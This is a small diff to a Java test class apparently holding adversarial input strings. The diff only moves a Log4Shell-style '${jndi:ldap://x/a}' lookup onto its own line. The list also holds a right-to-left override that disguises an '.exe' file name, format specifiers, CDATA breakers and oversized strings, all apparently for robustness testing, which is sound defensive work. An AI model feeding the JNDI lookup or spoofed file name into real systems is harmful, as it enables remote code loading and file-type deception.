@@ -31,7 +31,8 @@ public final class Hostile {
             "turned \u202Egnp.exe\u202C \u2066isolate\u2069 \u200Fmark zero\u200Bwidth \uFEFF line\u2028end",
             "half \uD83D pair \uDE00 whole \uD83D\uDE00 tag \uDB40\uDC41",
             "]]> <![CDATA[ ]]]]><![CDATA[>", "_x0041_ and _x000D_ _x005F_",
-            "\nfirst line empty", "a\r\nb\rc\td  e", "back\\slash \"quoted\", comma; semicolon", "${jndi:ldap://x/a} %n %s",
+            "\nfirst line empty", "a\r\nb\rc\td  e", "back\\slash \"quoted\", comma; semicolon",
+            "${jndi:ldap://x/a} %n %s",
             "1 MB: " + "A".repeat(1 << 20), "1 MB coded: " + "_x0041_".repeat(150_000));
 
     private Hostile() {
